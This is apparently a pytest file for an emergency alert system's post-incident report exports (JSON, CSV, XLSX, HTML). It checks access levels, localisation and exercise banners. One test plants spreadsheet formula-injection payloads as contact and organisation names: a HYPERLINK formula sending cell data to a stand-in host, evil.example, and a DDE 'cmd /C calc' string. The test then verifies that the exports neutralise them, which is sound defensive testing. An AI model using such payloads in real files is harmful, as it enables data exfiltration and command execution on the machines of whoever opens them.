"""The post-incident report in JSON, CSV, XLSX and HTML, for a coordinator and for a viewer."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import httpx
import openpyxl
import pytest
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from dispatch.acks.models import AckVia
from dispatch.acks.service import acknowledge, add_field_report
from dispatch.delivery import history
from dispatch.delivery.history import EventKind
from dispatch.models import Delivery, Incident, Recipient
from tests.factories import declare_demo_exercise

Client = httpx.AsyncClient
MESSAGE = {
    "nb": {"subject": "Flom", "sms": "Flom i Drammen.", "body": "Detaljer."},
    "ar": {"subject": "فيضان", "sms": "فيضان في درامن.", "body": "تفاصيل."},
}


@pytest.fixture
async def incident(
    coordinator_client: Client, sessionmaker: async_sessionmaker[AsyncSession]
) -> dict[str, Any]:
    """An exercise where some deliveries arrived, one failed, and two people acknowledged."""
    body = await declare_demo_exercise(
        coordinator_client, sessionmaker, title="Flom i Drammen", message=MESSAGE
    )
    async with sessionmaker() as session, session.begin():
        declared = await session.get(Incident, body["id"])
        assert declared is not None
        ids = (await session.scalars(select(Delivery.id).order_by(Delivery.id))).all()
        at = declared.declared_at + timedelta(seconds=5)
        await session.execute(
            update(Delivery)
            .where(Delivery.id.in_(ids[:-1]))
            .values(state="delivered", sent_at=at, delivered_at=at)
        )
        await session.execute(
            update(Delivery)
            .where(Delivery.id == ids[-1])
            .values(state="failed", failed_at=at, last_error="the number does not exist")
        )
        recipients = (await session.scalars(select(Recipient).order_by(Recipient.id))).all()
        for recipient, via in zip(recipients[:2], (AckVia.SMS, AckVia.LINK), strict=True):
            await acknowledge(
                session,
                incident_id=declared.id,
                recipient_id=recipient.id,
                via=via,
                delivery_id=None,
            )
        await add_field_report(
            session,
            text="Mange spør om drikkevannet.",
            source="sms",
            incident_id=declared.id,
            recipient=recipients[0],
            language="nb",
        )
    return body


async def test_json_report_for_a_coordinator(
    coordinator_client: Client, incident: dict[str, Any]
) -> None:
    response = await coordinator_client.get(f"/api/v1/incidents/{incident['id']}/report")
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["incident"]["exercise"] is True
    assert report["personal"] is True
    totals = report["totals"]
    assert totals["recipients"] == incident["recipients"]
    assert totals["acknowledged"] == 2
    # As the public contract says: deliveries by state, every state named.
    assert set(totals["deliveries"]) == {
        "queued",
        "sending",
        "sent",
        "delivered",
        "failed",
        "undeliverable",
    }
    assert sum(totals["deliveries"].values()) == incident["deliveries"]["planned"]
    assert (totals["deliveries"]["delivered"], totals["deliveries"]["failed"]) == (
        incident["deliveries"]["planned"] - 1,
        1,
    )
    assert report["ack_rate"] == round(2 / totals["recipients"], 4)
    assert report["time_to_ack"]["acknowledged"] == 2
    assert report["time_to_ack"]["median_s"] is not None
    assert set(report["time_to_ack_by_channel"]) == {"sms", "email"}
    assert report["failure_reasons"] == [
        {
            "channel": report["failure_reasons"][0]["channel"],
            "reason": "the number does not exist",
            "deliveries": 1,
        }
    ]
    assert [e["event"] for e in report["timeline"]][:2] == ["declared", "first_handover"]
    assert {"NIK", "NONEMI", "NIFS"} <= set(report["by_network"])
    # Somali, Polish, Ukrainian … speakers got Bokmål or Arabic's fallback: listed with names.
    assert report["fallbacks"]
    assert sum(f["recipients"] for f in report["fallbacks"]) == len(report["fallback_people"])
    assert all(p["name"] for p in report["fallback_people"])
    assert report["field_reports"] == 1
    assert report["field_report_items"][0]["text"] == "Mange spør om drikkevannet."
    silent = {o["name"] for o in report["silent_organisations"]}
    assert silent
    assert all(o["acknowledged"] == 0 for o in report["silent_organisations"])
    assert len(report["organisations"]) > len(silent)


async def test_a_viewer_gets_counts_without_personal_data(
    viewer_client: Client, incident: dict[str, Any]
) -> None:
    report = (await viewer_client.get(f"/api/v1/incidents/{incident['id']}/report")).json()
    assert report["personal"] is False
    assert report["totals"]["acknowledged"] == 2
    assert report["fallback_people"] == []
    assert report["field_report_items"] == []
    assert report["field_reports"] == 1
    text = (await viewer_client.get(f"/api/v1/incidents/{incident['id']}/report?format=csv")).text
    header = text.lstrip("\ufeff").splitlines()[0].split(",")
    assert "name" not in header
    assert "address" not in header
    assert "@" not in text
    assert "+47" not in text


async def test_csv_has_one_row_per_delivery(
    coordinator_client: Client, incident: dict[str, Any]
) -> None:
    response = await coordinator_client.get(
        f"/api/v1/incidents/{incident['id']}/report", params={"format": "csv"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert len(rows) == incident["deliveries"]["planned"]
    assert {r["state"] for r in rows} == {"delivered", "failed"}
    assert sum(1 for r in rows if r["acknowledged_at"]) >= 2
    assert any("@" in r["address"] for r in rows)


async def test_xlsx_has_a_summary_and_a_deliveries_sheet(
    coordinator_client: Client, incident: dict[str, Any]
) -> None:
    response = await coordinator_client.get(
        f"/api/v1/incidents/{incident['id']}/report", params={"format": "xlsx"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    # In the report's language (bokmål by default): sheets, headings and the words in the rows.
    assert workbook.sheetnames == ["Sammendrag", "Meldinger", "Utsendelser"]
    deliveries = list(workbook["Utsendelser"].iter_rows(values_only=True))
    assert len(deliveries) == incident["deliveries"]["planned"] + 1
    assert deliveries[0][:5] == ("Utsending", "Melding nr.", "Type", "Kanal", "Status")
    assert {row[3] for row in deliveries[1:]} == {"E-post", "SMS"}
    assert {row[4] for row in deliveries[1:]} == {"Levert", "Mislyktes"}
    summary = list(workbook["Sammendrag"].iter_rows(values_only=True))
    assert summary[0][0] == "Hendelsesrapport"
    assert summary[1][0] == "ØVELSE – ikke en virkelig hendelse"
    assert summary[2][:3] == ("Øvelse", "Alvorlig", "E-post, SMS")
    assert not [c for row in summary for c in row if isinstance(c, str) and c.startswith("user:")]
    messages = list(workbook["Meldinger"].iter_rows(values_only=True))
    assert ("norsk bokmål", "Flom", "Flom i Drammen.") in {(r[3], r[4], r[5]) for r in messages}
    assert ("arabisk", "فيضان", "فيضان في درامن.") in {(r[3], r[4], r[5]) for r in messages}


async def test_html_is_printable_with_inline_svg_and_an_exercise_banner(
    coordinator_client: Client, incident: dict[str, Any]
) -> None:
    response = await coordinator_client.get(
        f"/api/v1/incidents/{incident['id']}/report", params={"format": "html", "lang": "en"}
    )
    assert response.status_code == 200
    page = response.text
    assert '<p class="banner" role="note">EXERCISE – not a real incident</p>' in page
    assert page.count("<svg") == 3
    assert "@page { size: A4" in page
    assert "<script" not in page
    assert "Mange spør om drikkevannet." in page


async def test_a_report_a_director_can_read(
    coordinator_client: Client, incident: dict[str, Any]
) -> None:
    url = f"/api/v1/incidents/{incident['id']}/report"
    report = (await coordinator_client.get(url)).json()
    # Each channel counts the people it carried a message to and the acknowledgements that came
    # back through it (an SMS reply, a link in an e-mail), as the incident page does.
    rows = list(
        csv.DictReader(
            io.StringIO((await coordinator_client.get(url, params={"format": "csv"})).text[1:])
        )
    )
    for channel in ("email", "sms"):
        people = {r["name"] + r["organisation"] for r in rows if r["channel"] == channel}
        assert report["by_channel"][channel]["recipients"] == len(people) > 0
        assert report["by_channel"][channel]["acknowledged"] == 1
    # The texts sent, each version and language.
    assert report["versions"][0]["content"]["ar"]["sms"] == "فيضان في درامن."
    assert report["authors"] == {}  # declared with an API token, not by a person

    page = (await coordinator_client.get(url, params={"format": "html", "lang": "nb"})).text
    assert 'id="meta">Øvelse · Alvorlig · NIK, NONEMI, NIFS · E-post, SMS ·' in page
    assert "API-nøkkel «" in page  # who declared, in words
    assert "token:" not in page
    assert "<td>alert</td>" not in page
    assert "<td>Varsel</td>" in page
    assert '<td>E-post</td><td class="n">' in page  # the channel table's row name
    assert "Flom i Drammen." in page
    assert "فيضان في درامن." in page
    assert re.search(r"<strong>\d+,\d</strong>minutter", page), "a decimal comma in bokmål"
    english = (await coordinator_client.get(url, params={"format": "html", "lang": "en"})).text
    assert re.search(r"<strong>\d+\.\d</strong>minutes", english)
    assert 'id="meta">Exercise · Severe · NIK, NONEMI, NIFS · E-mail, SMS ·' in english


async def test_bad_parameters_and_unknown_incidents(
    coordinator_client: Client, incident: dict[str, Any]
) -> None:
    bad = await coordinator_client.get(
        f"/api/v1/incidents/{incident['id']}/report", params={"format": "pdf", "lang": "de"}
    )
    assert bad.status_code == 422
    assert len(bad.json()["errors"]) == 2
    assert (await coordinator_client.get("/api/v1/incidents/999/report")).status_code == 404


EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"Klikk her")'


async def test_a_formula_in_a_name_is_inert_in_csv_and_xlsx(
    coordinator_client: Client, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    from dispatch.audit.service import Actor
    from dispatch.directory.demo import load_demo
    from dispatch.directory.models import Contact, Organisation

    async with sessionmaker() as session, session.begin():
        await load_demo(session, actor=Actor("test"))
        await session.execute(update(Contact).values(name=EVIL))
        await session.execute(update(Organisation).values(name="@SUM(1+1)*cmd|' /C calc'!A0"))
    body = await declare_demo_exercise(
        coordinator_client, sessionmaker, title="Formler", message=MESSAGE
    )
    url = f"/api/v1/incidents/{body['id']}/report"
    csv_text = (await coordinator_client.get(url, params={"format": "csv"})).text
    rows = list(csv.DictReader(io.StringIO(csv_text.lstrip("\ufeff"))))
    assert {r["name"] for r in rows if r["name"]} == {"'" + EVIL}
    assert all(not r["organisation"].startswith("@") for r in rows)
    assert all(not r["address"].startswith("+") for r in rows)  # '+47… stays text too

    xlsx = await coordinator_client.get(url, params={"format": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    names = [
        cell
        for row in workbook["Utsendelser"].iter_rows(min_row=2)
        for cell in row
        if cell.value == EVIL
    ]
    assert names, "the name is kept exactly as typed"
    assert {cell.data_type for cell in names} == {"s"}  # a string, never a formula ("f")
    formulas = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


async def test_sends_the_engine_decided_about_are_in_the_report(
    coordinator_client: Client,
    incident: dict[str, Any],
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    """A send moved to another provider and one sent again without an answer: counted, listed
    with their reasons, and the second one's person may have two SMS."""
    async with sessionmaker() as session, session.begin():
        first, second = (
            await session.scalars(
                select(Delivery.id)
                .where(Delivery.incident_id == incident["id"], Delivery.channel == "sms")
                .order_by(Delivery.id)
                .limit(2)
            )
        ).all()
        await session.execute(
            update(Delivery).where(Delivery.id == second).values(possible_duplicate=True)
        )
        await history.add(
            session,
            [
                (first, EventKind.FAILOVER, "twilio: 500 from the provider; sent through link"),
                (second, EventKind.DECIDED, "twilio could not be asked whether it took it"),
            ],
        )
    report = (await coordinator_client.get(f"/api/v1/incidents/{incident['id']}/report")).json()
    assert report["possible_duplicates"] == 1
    assert report["send_decisions"] == {"decided": 1, "failover": 1}
    assert [(d["delivery_id"], d["kind"]) for d in report["send_decision_items"]] == [
        (first, "failover"),
        (second, "decided"),
    ]
    page = (
        await coordinator_client.get(
            f"/api/v1/incidents/{incident['id']}/report", params={"format": "html", "lang": "nb"}
        )
    ).text
    assert "Sendinger systemet avgjorde" in page
    assert '<strong id="possible-duplicates">1</strong>' in page
    assert "Flyttet til en annen leverandør" in page
    assert "twilio could not be asked whether it took it" in page


async def test_an_incident_without_decisions_says_none(
    coordinator_client: Client, incident: dict[str, Any]
) -> None:
    report = (await coordinator_client.get(f"/api/v1/incidents/{incident['id']}/report")).json()
    assert (report["possible_duplicates"], report["send_decisions"]) == (0, {})
    page = (
        await coordinator_client.get(
            f"/api/v1/incidents/{incident['id']}/report", params={"format": "html", "lang": "en"}
        )
    ).text
    section = page.split('<section id="send-decisions">', 1)[1].split("</section>", 1)[0]
    assert "None." in section
